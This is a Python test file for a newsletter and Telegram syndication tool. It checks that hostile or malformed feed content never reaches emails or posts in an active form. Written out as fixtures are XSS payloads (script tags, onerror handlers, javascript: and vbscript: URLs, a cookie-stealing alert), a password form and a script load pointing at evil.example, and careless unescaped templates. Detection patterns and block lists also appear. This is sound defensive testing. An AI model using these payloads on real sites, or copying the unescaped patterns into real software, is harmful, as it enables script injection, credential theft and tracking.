"""Hostile and broken input: nothing active reaches an email or a Telegram post, and every
file of the shared corpus is either read or refused with one sentence naming its URL.

The checks parse what would be sent (the personalized MIME message, the Telegram text)
with lxml and look at elements, attributes and URLs, written apart from the policies in
`syndicate.render.safety` so that they can disagree with them. Over the corpus they also
require that no script address is even mentioned in the text; a post whose own title or
excerpt is made of markup is shown as that text, so there only its addresses are checked.
"""

from __future__ import annotations

import asyncio
import email
import gzip
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from email import policy
from pathlib import Path
from urllib.parse import urlsplit

import jinja2
import lxml.etree
import lxml.html
import pytest
from sqlalchemy import select

from syndicate.channels.base import SocialPost
from syndicate.config import Source as SourceConfig
from syndicate.db.models import Source
from syndicate.db.session import open_database
from syndicate.ingest.extract import extract_article
from syndicate.ingest.parse import FeedError, parse_feed
from syndicate.ingest.poll import poll_sources
from syndicate.render.email import Recipient, personalize, render_edition
from syndicate.render.safety import safe_image_url, safe_url
from syndicate.render.telegram import render_telegram_digest, render_telegram_post
from syndicate.render.templates import template_environment
from syndicate.types import Credit, EditionView, PostView
from tests.corpus import CORPUS
from tests.feedserver import FeedServer, Route

NOW = datetime(2024, 5, 6, 7, 0, tzinfo=UTC)
FEED_URL = "https://corpus.example/feed.xml"
SANITIZE = CORPUS / "feedparser" / "wellformed" / "sanitize"

# --- What may appear in what is sent ---------------------------------------------------

ACTIVE_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "base", "link", "svg", "math", "noscript", "template",
    "video", "audio",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "background", "poster", "data", "srcset", "cite",
    "longdesc", "lowsrc", "dynsrc", "ping", "xlink:href", "codebase", "manifest",
}  # fmt: skip
EMAIL_SCHEMES = {"http", "https", "mailto"}
TELEGRAM_TAGS = {
    "b", "strong", "i", "em", "u", "ins", "s", "strike", "del", "a", "code", "pre",
    "blockquote", "tg-spoiler",
}  # fmt: skip
TELEGRAM_ATTRIBUTES = {"a": {"href"}, "code": {"class"}, "blockquote": {"expandable"}}
BAD_SCHEME = re.compile(r"(?:java|vb)script\s*:|data\s*:\s*[a-z]+/", re.IGNORECASE)
ACTIVE_CSS = re.compile(r"expression\s*\(|url\s*\(|javascript\s*:|behavior\s*:", re.IGNORECASE)
TRACKERS = ("feeds.feedburner.com/~r/", "pixel.wp.com", "stats.wordpress.com", "/pixel.gif")


def _scheme(url: str) -> str:
    # Browsers drop tabs, newlines and leading control characters before reading a scheme.
    squeezed = re.sub(r"[\x00-\x20]", "", url)
    return urlsplit(squeezed).scheme.lower() if ":" in squeezed.split("/")[0] else ""


def _pixel(element: lxml.etree._Element) -> bool:
    sizes = [element.get("width") or "", element.get("height") or ""]
    sizes += re.findall(r"(?:width|height)\s*:\s*(\d+)px", element.get("style") or "")
    numbers = [size.strip().removesuffix("px") for size in sizes]
    return any(number.isdigit() and int(number) <= 1 for number in numbers)


def email_problems(html: str) -> list[str]:
    """What in an email's HTML could run, submit, frame, track or lead to a script."""
    problems = []
    root = lxml.html.document_fromstring(html)
    for element in root.iter():
        if not isinstance(element.tag, str):
            if isinstance(element, lxml.etree._Comment):
                problems.append(f"a comment {str(element)[:60]!r}")
            continue
        tag = element.tag.lower()
        if tag in ACTIVE_TAGS:
            problems.append(f"<{tag}>")
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            problems.append("<meta http-equiv=refresh>")
        for name, value in element.attrib.items():
            name = name.lower()
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…>")
            elif name in URL_ATTRIBUTES and _scheme(value) not in EMAIL_SCHEMES:
                problems.append(f"<{tag} {name}={value[:60]!r}>")
            elif name == "style" and ACTIVE_CSS.search(value):
                problems.append(f"<{tag} style={value[:60]!r}>")
        if tag == "img":
            src = element.get("src") or ""
            if _pixel(element) or any(tracker in src for tracker in TRACKERS):
                problems.append(f"a tracking pixel {src[:60]!r}")
    return problems


def text_problems(text: str) -> list[str]:
    """What in a plain-text part reads as a script address or a tag a converter could wake."""
    found = [f"{m.group()!r} in the text" for m in BAD_SCHEME.finditer(text)]
    return found + [f"{m.group()!r} in the text" for m in re.finditer(r"(?i)<script", text)]


def telegram_problems(post: SocialPost, *, mentions: bool = True) -> list[str]:
    """What in a Telegram post is outside Telegram's HTML subset or leads to a script."""
    problems = []
    for text in filter(None, (post.text, post.fallback_text)):
        root = lxml.html.fragment_fromstring(text, create_parent="div")
        for element in root.iterdescendants():
            if not isinstance(element.tag, str):
                problems.append("a comment or processing instruction")
                continue
            if element.tag not in TELEGRAM_TAGS:
                problems.append(f"<{element.tag}>")
            for name, value in element.attrib.items():
                if name not in TELEGRAM_ATTRIBUTES.get(element.tag, set()):
                    problems.append(f"<{element.tag} {name}=…>")
                elif name == "href" and _scheme(value) not in {"http", "https", "tg"}:
                    problems.append(f"<a href={value[:60]!r}>")
        if mentions:
            problems += [f"{m.group()!r} in the post" for m in BAD_SCHEME.finditer(text)]
    for url in filter(None, (post.photo, post.link)):
        if _scheme(url) not in {"http", "https"} or any(t in url for t in TRACKERS):
            problems.append(f"the address {url[:60]!r}")
    return problems


# --- Rendering posts the way jobs do ---------------------------------------------------


def edition(posts: Sequence[PostView], key: str = "e1") -> EditionView:
    return EditionView(
        key=key,
        job="pagi",
        subject="Kabar pagi",
        site_name="Kabar Pilihan",
        site_url="https://kabarpilihan.example.id/",
        locale="id",
        timezone="Asia/Jakarta",
        created_at=NOW,
        posts=tuple(posts),
    )


def mailed_parts(view: EditionView, env: jinja2.Environment) -> tuple[str, str]:
    """The HTML and text of the message one subscriber would get."""
    rendered = render_edition(view, env=env)
    message = personalize(
        rendered,
        recipient=Recipient("ani@example.org", "Ani"),
        sender="Kabar Pilihan <redaksi@example.org>",
        list_id="newsletter.kabarpilihan.example.id",
        message_id=f"{view.key}.ani@example.org",
        date=NOW,
        unsubscribe_url="https://kabarpilihan.example.id/unsubscribe/tok",
        view_url="https://kabarpilihan.example.id/archive/pagi/1",
    )
    parsed = email.message_from_bytes(message.data, policy=policy.default)
    html = parsed.get_body(preferencelist=("html",)).get_content()  # type: ignore[union-attr]
    text = parsed.get_body(preferencelist=("plain",)).get_content()  # type: ignore[union-attr]
    return html, text


def telegram_posts(view: EditionView, env: jinja2.Environment) -> list[SocialPost]:
    options = {"target": "@kabarpilihan", "env": env, "locale": "id", "timezone": "Asia/Jakarta"}
    posts = [render_telegram_post(post, **options) for post in view.posts]
    return posts + render_telegram_digest(view, **options)


def problems_in_everything_sent(
    views: Iterable[EditionView], env: jinja2.Environment, *, hostile_urls: Sequence[str] = ()
) -> list[str]:
    """Every problem in the emails and Telegram posts of `views`.

    Without `hostile_urls`, no script address may be mentioned anywhere; with them, the
    posts' own text is markup shown as text, and only those addresses must not appear.
    """
    problems = []
    for view in views:
        html, text = mailed_parts(view, env)
        problems += [f"{view.key} email: {p}" for p in email_problems(html)]
        sent = [html, text]
        for post in telegram_posts(view, env):
            problems += [
                f"{view.key} telegram: {p}"
                for p in telegram_problems(post, mentions=not hostile_urls)
            ]
            sent += [post.text, post.fallback_text or "", post.photo or "", post.link or ""]
        if not hostile_urls:
            problems += [f"{view.key}: {p}" for p in text_problems(html + text)]
        problems += [
            f"{view.key}: {url!r} is in what is sent"
            for url in hostile_urls
            if any(url in part for part in sent)
        ]
    return problems


# --- The feedparser sanitize corpus, through ingest and render -------------------------


@dataclass(frozen=True)
class Replayed:
    files: int
    hostile_files: int  # files whose raw text carries a script, a handler, a frame, ...
    posts: tuple[PostView, ...]


@pytest.fixture(scope="module")
def sanitize_corpus() -> Replayed:
    hostile = re.compile(
        rb"<script|javascript:|vbscript:|\son[a-z]+=|<iframe|<form|<object|<embed|&lt;script",
        re.IGNORECASE,
    )
    files = sorted(SANITIZE.glob("*.xml"))
    posts: list[PostView] = []
    hostile_files = 0
    for path in files:
        body = path.read_bytes()
        hostile_files += bool(hostile.search(body))
        try:
            feed = parse_feed(body, url=FEED_URL, now=NOW)
        except FeedError:
            continue  # a file that is no feed is refused at ingest: nothing to render
        # The feed's own title and link become the publisher's credit, as for a source.
        publisher = Credit(feed.title or path.stem, feed.site_url)
        for index, entry in enumerate(feed.entries):
            posts.append(
                PostView(
                    key=f"{path.stem}#{index}",
                    title=entry.title,
                    url=entry.url or FEED_URL,
                    excerpt=entry.excerpt,
                    publisher=publisher,
                    origin=entry.origin,
                    image_url=entry.image_url,
                    published_at=entry.published_at,
                )
            )
    return Replayed(len(files), hostile_files, tuple(posts))


def test_the_whole_sanitize_corpus_is_replayed(sanitize_corpus: Replayed) -> None:
    assert sanitize_corpus.files > 700
    assert sanitize_corpus.hostile_files > 80
    assert len(sanitize_corpus.posts) > 550


def test_no_email_or_telegram_post_from_the_sanitize_corpus_carries_anything_active(
    sanitize_corpus: Replayed,
) -> None:
    env = template_environment()
    posts = sanitize_corpus.posts
    batches = [edition(posts[i : i + 40], f"e{i}") for i in range(0, len(posts), 40)]
    problems = problems_in_everything_sent(batches, env)
    assert not problems, "\n".join(problems[:30])


# --- Hostile post fields, and a site template that forgets to escape -------------------

HOSTILE = PostView(
    key="p666",
    title='<script>alert("t")</script><img src=x onerror=alert(1)><a href="javascript:x">Judul</a>',
    url="javascript:alert(document.cookie)",
    excerpt=(
        '<iframe src="https://evil.example/"></iframe><form action="https://evil.example/">'
        '<input name="pw"></form><object data="x.swf"></object><embed src="x.swf">'
        '<p onmouseover="steal()">Paragraf</p><a href=" JaVaScRiPt:alert(1)">klik</a>'
        '<a href="vbscript:msgbox(1)">vb</a><img src="data:image/gif;base64,R0lGOD" alt="d">'
        '<img src="https://evil.example/open.gif" width="1" height="1">'
    ),
    publisher=Credit('Warta <b onclick="x()">Nusantara</b>', "javascript:alert('pub')"),
    origin=Credit("Inilah<script>x</script>", "data:text/html;base64,PHNjcmlwdD4="),
    image_url="https://feeds.feedburner.com/~r/warta/~4/abcdef",
)
HOSTILE_VARIANTS = [
    HOSTILE,
    replace(HOSTILE, key="p667", image_url="data:image/gif;base64,R0lGODlhAQABAAAAACw="),
    replace(HOSTILE, key="p668", image_url="javascript:alert(2)", url="vbscript:msgbox(2)"),
    replace(HOSTILE, key="p669", image_url="https://pixel.wp.com/g.gif", url=" \tjava\nscript:x"),
    replace(HOSTILE, key="p670", image_url="https://stats.wordpress.com/b.gif?v=1"),
]  # fmt: skip
# The addresses the posts carry, none of which may be offered in what is sent.
HOSTILE_URLS = [
    "javascript:alert(document.cookie)", "javascript:alert('pub')", "PHNjcmlwdD4=",
    "feeds.feedburner.com/~r/warta", "R0lGODlhAQABAAAAACw=", "javascript:alert(2)",
    "vbscript:msgbox(2)", "java\nscript:x", "pixel.wp.com", "stats.wordpress.com",
]  # fmt: skip


def test_hostile_post_fields_reach_no_mailbox_or_channel_as_anything_active() -> None:
    views = [edition(HOSTILE_VARIANTS, "hostile")]
    problems = problems_in_everything_sent(views, template_environment(), hostile_urls=HOSTILE_URLS)
    assert not problems, "\n".join(problems)


def test_hostile_text_is_still_shown_as_text() -> None:
    html, text = mailed_parts(edition([HOSTILE]), template_environment())
    assert "&lt;script&gt;" in html and "Paragraf" in html
    assert "Judul" in text
    post = render_telegram_post(HOSTILE, target="@k", env=template_environment(),
                                locale="id", timezone="Asia/Jakarta")  # fmt: skip
    assert "&lt;script&gt;" in post.text and post.photo is None and post.link is None


CARELESS_EMAIL = """<!DOCTYPE html>
<html lang="id"><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<script src="https://evil.example/x.js"></script><link rel="stylesheet" href="https://evil.example/x.css">
<title>{{ subject }}</title><style>p { color: #111; }</style></head>
<body onload="track()">
{% for post in posts %}
<div class="post" onclick="go()"><h2><a href="{{ post.url }}">{{ post.title|safe }}</a></h2>
<p>{{ post.excerpt|safe }}</p>
<img src="https://evil.example/pixel.gif?u={{ recipient }}" width="1" height="1">
<form action="https://evil.example/login"><input type="password"></form>
<iframe src="https://evil.example/"></iframe>
</div>
{% endfor %}
<p><a href="{{ unsubscribe_url }}">Berhenti</a> <a href="javascript:void(0)">x</a></p>
</body></html>
"""
CARELESS_POST = """<b><a href="{{ post.url }}">{{ title|safe }}</a></b>
<span onclick="x()">{{ excerpt|safe }}</span><script>steal()</script><img src="x">
<a href="javascript:alert(1)">klik</a> <iframe src="https://evil.example/"></iframe>
"""


@pytest.fixture
def careless_templates(tmp_path: Path) -> jinja2.Environment:
    """A site's own templates that mark post fields safe and add active content."""
    (tmp_path / "email").mkdir()
    (tmp_path / "social").mkdir()
    (tmp_path / "email" / "digest.html").write_text(CARELESS_EMAIL, encoding="utf-8")
    (tmp_path / "social" / "telegram_post.html").write_text(CARELESS_POST, encoding="utf-8")
    return template_environment(tmp_path)


def test_a_careless_site_template_still_sends_nothing_active(
    careless_templates: jinja2.Environment,
) -> None:
    views = [edition(HOSTILE_VARIANTS, "careless")]
    problems = problems_in_everything_sent(views, careless_templates, hostile_urls=HOSTILE_URLS)
    assert not problems, "\n".join(problems)
    html, _ = mailed_parts(views[0], careless_templates)
    assert 'href="https://kabarpilihan.example.id/unsubscribe/tok"' in html  # placeholders kept
    assert "Paragraf" in html


@pytest.mark.parametrize(
    "html",
    [
        "<p>x<script>alert(1)</script></p>",
        '<p onclick="x()">x</p>',
        '<a href=" javascript:alert(1)">x</a>',
        '<img src="data:image/png;base64,AAAA">',
        '<img src="https://a.example/p.gif" width="1" height="1">',
        '<form action="https://a.example/"></form>',
        '<iframe src="https://a.example/"></iframe>',
        '<object data="x"></object>',
        '<embed src="x.swf">',
        '<a href="vbscript:x">x</a>',
        '<meta http-equiv="refresh" content="0">',
    ],
)
def test_the_email_check_itself_finds_each_forbidden_thing(html: str) -> None:
    assert email_problems(f"<html><head></head><body>{html}</body></html>")


@pytest.mark.parametrize(
    "post",
    [
        SocialPost(target="@k", text="<b>x</b><script>x</script>"),
        SocialPost(target="@k", text='<a href="javascript:x">x</a>'),
        SocialPost(target="@k", text='<b onclick="x">x</b>'),
        SocialPost(target="@k", text="<iframe></iframe>"),
        SocialPost(target="@k", text="x", photo="data:image/gif;base64,R0lG"),
        SocialPost(target="@k", text="x", photo="https://feeds.feedburner.com/~r/a/~4/b"),
    ],
)
def test_the_telegram_check_itself_finds_each_forbidden_thing(post: SocialPost) -> None:
    assert telegram_problems(post)


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://a.example/x.jpg", "https://a.example/x.jpg"),
        (" http://a.example/x ", "http://a.example/x"),
        ("javascript:alert(1)", None),
        ("JAVASCRIPT:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("data:image/png;base64,AAAA", None),
        ("vbscript:x", None),
        ("//a.example/x", None),
        ("https://a.example/\x00x", None),
        ("", None),
        (None, None),
    ],
)
def test_safe_url_keeps_only_http_addresses_on_one_line(url: str | None, expected: str) -> None:
    assert safe_url(url) == expected


def test_safe_image_url_refuses_tracking_pixels() -> None:
    assert safe_image_url("https://a.example/foto.jpg") == "https://a.example/foto.jpg"
    trackers = [
        "https://feeds.feedburner.com/~r/x/~4/y",
        "https://pixel.wp.com/g.gif",
        "https://a.example/track/open.gif?id=1",
        "http://www.google-analytics.com/collect",
    ]
    for tracker in trackers:
        assert safe_image_url(tracker) is None, tracker


# --- Every file of the shared corpus: read, or refused in one sentence -----------------

DOCUMENTATION = {"LICENSE", "COPYING", "README", "README.md", "evaluate.py"}
# miniflux's readability test pages were a symbolic link to its sanitizer's test data; the
# copy holds only the link's target as text, so there are no readability pages to read.
UNRESOLVED_LINKS = {CORPUS / "miniflux" / "readability" / "testdata"}
FEED_SUFFIXES = {".xml", ".atom", ".rss", ".json"}
COMPRESSED_SUFFIXES = {".gz": "gzip", ".z": "deflate"}
_HEADER_LINE = re.compile(rb"^Header:\s*([\w-]+)\s*:\s*(.*?)\s*$", re.MULTILINE)


def declared_headers(body: bytes) -> dict[str, str]:
    """The HTTP headers a feedparser test file says its server sends ("Header: …")."""
    return {
        name.decode().lower(): value.decode("latin-1")
        for name, value in _HEADER_LINE.findall(body[:1024])
    }


def one_sentence_problem(message: str, url: str) -> str | None:
    """Why `message` is not one clear sentence naming `url`, or None when it is."""
    rest = message.replace(url, "URL")
    if url not in message:
        return "it does not name the URL"
    if "\n" in message or "Traceback" in message:
        return "it spans several lines"
    if not message.endswith("."):
        return "it does not end as a sentence"
    if re.search(r"[.!?]\s+[A-Z]", rest) or len(message) > 400:
        return "it is more than one sentence"
    if re.search(r"\w+Error\(|<\w+ object at", rest):
        return "it shows a Python object"
    return None


@pytest.mark.slow
def test_every_file_of_the_corpus_is_read_or_refused_in_one_sentence() -> None:
    kinds: dict[str, int] = {}
    problems = []
    for path in sorted(p for p in CORPUS.rglob("*") if p.is_file()):
        name = path.relative_to(CORPUS).as_posix()
        url = f"https://corpus.example/{name}"
        if path.name in DOCUMENTATION or path in UNRESOLVED_LINKS:
            kind = "documentation"
        elif path.name.endswith(".html.gz"):  # the extraction benchmark's pages
            kind = "page"
            extract_article(gzip.decompress(path.read_bytes()), url, now=NOW)
        elif path.suffix in COMPRESSED_SUFFIXES:
            kind = "compressed"  # served with Content-Encoding in the polling test below
        elif path.suffix in (".html", ".txt"):  # .txt: a page as plain lines (the seed)
            kind = "page"
            extract_article(path.read_bytes(), url, now=NOW)
        elif path.suffix in FEED_SUFFIXES or path.name.startswith("feed."):
            kind = "feed"
            body = path.read_bytes()
            content_type = declared_headers(body).get("content-type")
            try:
                parse_feed(body, url=url, content_type=content_type, now=NOW)
            except FeedError as error:
                if reason := one_sentence_problem(str(error), url):
                    problems.append(f"{name}: {reason}: {error}")
        else:
            kind = "unknown"
            problems.append(f"{name}: no test reads this kind of file")
        kinds[kind] = kinds.get(kind, 0) + 1
    assert not problems, "\n".join(problems[:20])
    assert kinds["feed"] > 1000 and kinds["page"] >= 4 and kinds["compressed"] == 6, kinds


def _serve_corpus(server: FeedServer) -> list[SourceConfig]:
    """Each compressed file and each file that declares its HTTP answer, served that way.

    feedparser's redirect tests point at its own test server; here they point at this one.
    """
    sources = []

    def serve(path: Path, route: Route) -> None:
        name = path.relative_to(CORPUS).as_posix()
        server.routes[f"/{name}"] = route
        url = server.url(f"/{name}")
        sources.append(SourceConfig(name, url, timedelta(minutes=15), None, True, "never"))

    for path in sorted(CORPUS.rglob("*")):
        if path.suffix in COMPRESSED_SUFFIXES:
            encoding = {"Content-Encoding": COMPRESSED_SUFFIXES[path.suffix]}
            serve(path, Route(200, path.read_bytes(), "application/atom+xml", headers=encoding))
        elif path.suffix == ".xml" and (
            (headers := declared_headers(path.read_bytes())) or path.parent.name == "http"
        ):
            status = int(headers.pop("status", "200"))
            content_type = headers.pop("content-type", "application/xml")
            if "location" in headers:
                headers["location"] = (
                    headers["location"]
                    .replace("http://localhost:8097/tests/", server.url("/feedparser/"))
                    .replace("http://localhost:8097/", server.url("/"))
                )
            body = b"" if status in (301, 302, 303, 304, 307) and "location" in headers else None
            route = Route(status, path.read_bytes() if body is None else body, content_type)
            route.headers = {name.title(): value for name, value in headers.items()}
            serve(path, route)
    server.routes["/-/return-304.xml"] = Route(status=304)
    return sources


BROKEN = {
    "empty": (b"", "application/rss+xml"),
    "html-page": ((CORPUS / "miniflux/encoding/testdata/utf8.html").read_bytes(), "text/html"),
    "binary": (b"\x00\x01\x02garbage\xff", "application/octet-stream"),
}


@pytest.mark.slow
def test_corpus_feeds_served_as_their_servers_would_are_read_or_recorded_in_one_sentence(
    database_url: str,
) -> None:
    db = open_database(database_url)
    with FeedServer() as server:
        sources = _serve_corpus(server)
        for name, (body, content_type) in BROKEN.items():
            server.add(f"/broken/{name}", body, content_type)
            url = server.url(f"/broken/{name}")
            sources.append(SourceConfig(name, url, timedelta(minutes=15), None, True, "never"))
        reports = {report.source: report for report in asyncio.run(poll_sources(db, sources))}
    with db.session() as session:
        rows = {row.name: row for row in session.scalars(select(Source))}
    db.dispose()
    problems = []
    for source in sources:
        report, row = reports[source.name], rows[source.name]
        if report.error is None:
            continue
        if row.last_error != report.error or row.consecutive_failures != 1:
            problems.append(f"{source.name}: the failure is not recorded on the source")
        if reason := one_sentence_problem(row.last_error or "", source.url):
            problems.append(f"{source.name}: {reason}: {row.last_error}")
    assert not problems, "\n".join(problems)
    assert len(sources) > 60
    failed = {name for name, report in reports.items() if report.error}
    # Decoded or followed as a client should: these are read.
    assert not failed & {
        "feedparser/compression/gzip.gz",
        "feedparser/compression/deflate.z",
        "feedparser/compression/deflate-no-headers.z",
        "feedparser/http/http_status_301.xml",
        "feedparser/http/http_status_307.xml",
        "feedparser/http/http_redirect_to_304.xml",
    }
    # Broken in transit or not a feed: these are refused, and say so.
    assert failed >= {
        "feedparser/compression/gzip-not-compressed.gz",
        "feedparser/http/http_status_404.xml",
        *BROKEN,
    }
    assert "404" in rows["feedparser/http/http_status_404.xml"].last_error
    assert "HTML page" in rows["html-page"].last_error


@pytest.mark.parametrize(
    "message",
    [
        "the server answered 404 Not Found.",
        "https://a.example/f: the download failed\nTraceback (most recent call last):",
        "https://a.example/f: the download failed. Try again later.",
        "https://a.example/f: unexpected error (ValueError('x')).",
        "https://a.example/f: the download failed",
    ],
)
def test_the_sentence_check_itself_refuses_what_is_not_one_clear_sentence(message: str) -> None:
    assert one_sentence_problem(message, "https://a.example/f") is not None
    assert one_sentence_problem("https://a.example/f: it is empty.", "https://a.example/f") is None
